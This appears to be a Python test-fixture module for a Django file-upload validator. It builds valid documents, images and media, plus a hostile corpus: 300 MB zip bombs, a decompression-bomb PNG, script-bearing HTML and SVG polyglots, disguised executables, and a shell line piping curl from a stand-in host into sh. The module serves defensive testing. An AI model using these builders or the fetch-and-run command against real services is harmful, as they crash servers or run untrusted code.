"""Files for the upload tests, built in code: good ones of every accepted type and a hostile corpus.

Nothing is read from disk; the bombs are built by streaming zeros through zlib,
so a 300 MB document costs a third of a megabyte and well under a second.
"""

import io
import random
import struct
import zlib
from functools import cache

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

MB = 1024 * 1024

OFFICE_MAIN = {
    "docx": (
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    ),
    "pptx": (
        "ppt/presentation.xml",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
    ),
    "xlsx": (
        "xl/workbook.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    ),
}
ODF_MIMETYPES = {
    "odt": "application/vnd.oasis.opendocument.text",
    "odp": "application/vnd.oasis.opendocument.presentation",
    "ods": "application/vnd.oasis.opendocument.spreadsheet",
}


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    # The browser's content type is what an attacker chooses; we send a plausible one.
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def zipped(entries: dict[str, bytes], *, big: dict[str, int] | None = None) -> bytes:
    """A ZIP of the given parts, plus parts of `size` spaces each (the bombs).

    Written by hand because zipfile would take seconds to deflate 300 MB: one
    megabyte of spaces is deflated once with a full flush (so it stands alone),
    and that kilobyte is repeated, as a zip bomb is made.
    """
    parts = []
    for name, content in entries.items():
        if name == "mimetype":  # stored, as ODF and EPUB require
            parts.append((name, 0, content, zlib.crc32(content), len(content)))
        else:
            compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
            packed = compressor.compress(content) + compressor.flush()
            parts.append((name, 8, packed, zlib.crc32(content), len(content)))
    for name, size in (big or {}).items():
        chunk = b" " * MB
        compressor = zlib.compressobj(6, zlib.DEFLATED, -15)
        block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
        count = size // MB
        crc = 0
        for _ in range(count):
            crc = zlib.crc32(chunk, crc)
        parts.append((name, 8, block * count + b"\x03\x00", crc, count * MB))
    return _zip_file(parts)


def _zip_file(parts) -> bytes:
    body, directory = b"", b""
    for name, method, data, crc, size in parts:
        encoded = name.encode()
        fields = struct.pack(
            "<HHHHHIIIHH", 20, 0, method, 0, 0x21, crc, len(data), size, len(encoded), 0
        )
        directory += (
            b"PK\x01\x02"
            + struct.pack("<H", 20)
            + fields
            + struct.pack("<HHHII", 0, 0, 0, 0, len(body))
            + encoded
        )
        body += b"PK\x03\x04" + fields + encoded + data
    end = struct.pack("<HHHHIIH", 0, 0, len(parts), len(parts), len(directory), len(body), 0)
    return body + directory + b"PK\x05\x06" + end


def _content_types(main_part: str, main_type: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{main_type}"/>'
        "</Types>"
    ).encode()


def office(kind: str, *, big: dict[str, int] | None = None, extra: dict | None = None) -> bytes:
    main_part, main_type = OFFICE_MAIN[kind]
    return zipped(
        {
            "[Content_Types].xml": _content_types(main_part, main_type),
            "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
            main_part: b'<?xml version="1.0"?><document>Lekcja o ulamkach</document>',
            **(extra or {}),
        },
        big=big,
    )


def odf(kind: str, *, big: dict[str, int] | None = None, extra: dict | None = None) -> bytes:
    return zipped(
        {
            "mimetype": ODF_MIMETYPES[kind].encode(),
            "content.xml": b'<?xml version="1.0"?><office:document-content/>',
            "META-INF/manifest.xml": b'<?xml version="1.0"?><manifest:manifest/>',
            **(extra or {}),
        },
        big=big,
    )


def epub() -> bytes:
    return zipped(
        {
            "mimetype": b"application/epub+zip",
            "META-INF/container.xml": b'<?xml version="1.0"?><container/>',
            "OEBPS/content.opf": b'<?xml version="1.0"?><package/>',
        }
    )


def pdf(text: str = "Scenariusz") -> bytes:
    return (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
        + f"% {text}\n".encode()
        + b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def image(fmt: str = "PNG", size=(64, 48), mode: str = "RGB") -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, "red" if mode != "1" else 0).save(buffer, format=fmt)
    return buffer.getvalue()


def noisy_image(fmt: str, size=(300, 300)) -> bytes:
    """A picture that does not compress, so cutting it in half cuts its pixels."""
    pixels = random.Random(12).randbytes(size[0] * size[1] * 3)
    buffer = io.BytesIO()
    Image.frombytes("RGB", size, pixels).save(buffer, format=fmt)
    return buffer.getvalue()


def mp3() -> bytes:
    # An ID3v2 tag, then one MPEG-1 layer III frame header and silence.
    return b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x64" + b"\x00" * 413


def mp4() -> bytes:
    ftyp = b"ftypisom\x00\x00\x02\x00isomiso2avc1mp41"
    return struct.pack(">I", len(ftyp) + 4) + ftyp + b"\x00\x00\x00\x08free"


VALID_DOCUMENTS = {
    "pdf": lambda: upload("scenariusz.pdf", pdf()),
    "docx": lambda: upload("scenariusz.docx", office("docx")),
    "pptx": lambda: upload("prezentacja.pptx", office("pptx")),
    "xlsx": lambda: upload("oceny.xlsx", office("xlsx")),
    "odt": lambda: upload("scenariusz.odt", odf("odt")),
    "odp": lambda: upload("prezentacja.odp", odf("odp")),
    "ods": lambda: upload("oceny.ods", odf("ods")),
    "epub": lambda: upload("lektura.epub", epub()),
    "txt": lambda: upload("notatki.txt", "Zażółć gęślą jaźń: x < p, a<b.".encode()),
    "txt-cp1250": lambda: upload("notatki.txt", "Ćwiczenia z ułamków".encode("cp1250")),
    "csv": lambda: upload("oceny.csv", "uczeń;ocena\nAla;5\n".encode()),
    "jpeg": lambda: upload("zdjecie.jpg", image("JPEG")),
    "png": lambda: upload("obraz.png", image("PNG")),
    "webp": lambda: upload("obraz.webp", image("WEBP")),
    "mp3": lambda: upload("nagranie.mp3", mp3()),
    "mp4": lambda: upload("film.mp4", mp4()),
}
VALID_AVATARS = {
    "jpeg": lambda: upload("ja.jpeg", image("JPEG")),
    "png": lambda: upload("ja.png", image("PNG")),
    "webp": lambda: upload("ja.webp", image("WEBP")),
    "gif": lambda: upload("ja.gif", image("GIF")),
}


# --- the hostile corpus -----------------------------------------------------------


@cache
def docx_bomb() -> bytes:
    return office("docx", big={"word/media/filler.xml": 300 * MB})


@cache
def odt_bomb() -> bytes:
    return odf("odt", big={"Pictures/filler.xml": 300 * MB})


@cache
def xlsx_bomb() -> bytes:
    return office("xlsx", big={"xl/worksheets/sheet1.xml": 300 * MB})


@cache
def pixel_flood() -> bytes:
    """A PNG that claims 20000 × 20000 pixels (400 million) in about 50 kB."""
    width = height = 20_000
    row = b"\x00" + b"\x00" * (width // 8)  # filter byte, then one bit a pixel
    compressor = zlib.compressobj(9)
    data = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


def _half(content: bytes) -> bytes:
    return content[: len(content) // 2]


HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">'
    b"<script>alert(document.cookie)</script></svg>"
)
SHELL = b"#!/bin/sh\ncurl -s http://example.invalid/x | sh\n"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200

# name, how to build it, the refusal a document field gives
HOSTILE = {
    "docx-bomb": ("scenariusz.docx", docx_bomb, "archive_size"),
    "odt-bomb": ("scenariusz.odt", odt_bomb, "archive_size"),
    "xlsx-bomb": ("oceny.xlsx", xlsx_bomb, "archive_size"),
    "shell-as-pdf": ("instrukcja.pdf", lambda: SHELL, "program"),
    "shell-as-txt": ("instrukcja.txt", lambda: SHELL, "program"),
    "pdf-html-polyglot": ("ulotka.pdf", lambda: b"%PDF-1.4\n" + HTML + b"\n%%EOF\n", "markup"),
    "svg-with-script": ("rysunek.svg", lambda: SVG, "markup"),
    "svg-as-png": ("rysunek.png", lambda: SVG, "markup"),
    "html-as-pdf": ("lekcja.pdf", lambda: HTML, "markup"),
    "html-as-docx": ("lekcja.docx", lambda: HTML, "markup"),
    "html-as-txt": ("lekcja.txt", lambda: HTML, "markup"),
    "jpeg-html-polyglot": (
        "zdjecie.jpg",
        lambda: b"\xff\xd8\xff\xe0" + HTML + b"x" * 100,
        "markup",
    ),
    "pixel-flood": ("plakat.png", pixel_flood, "too_many_pixels"),
    "empty": ("pusty.pdf", lambda: b"", "empty"),
    "truncated-png": ("obraz.png", lambda: _half(noisy_image("PNG")), "broken_image"),
    "truncated-jpeg": ("zdjecie.jpg", lambda: _half(noisy_image("JPEG")), "broken_image"),
    "exe-as-pdf": ("program.pdf", lambda: EXE, "program"),
    "exe-as-docx": ("program.docx", lambda: EXE, "program"),
    "elf-as-txt": ("program.txt", lambda: ELF, "program"),
    "macros-as-docx": (
        "makra.docx",
        lambda: office("docx", extra={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "macros",
    ),
    "plain-zip-as-docx": ("archiwum.docx", lambda: zipped({"a.txt": b"x"}), "archive"),
    "pdf-named-docx": ("scenariusz.docx", pdf, "extension"),
    "binary-as-txt": ("dane.txt", lambda: bytes(range(256)) * 4, "not_text"),
}
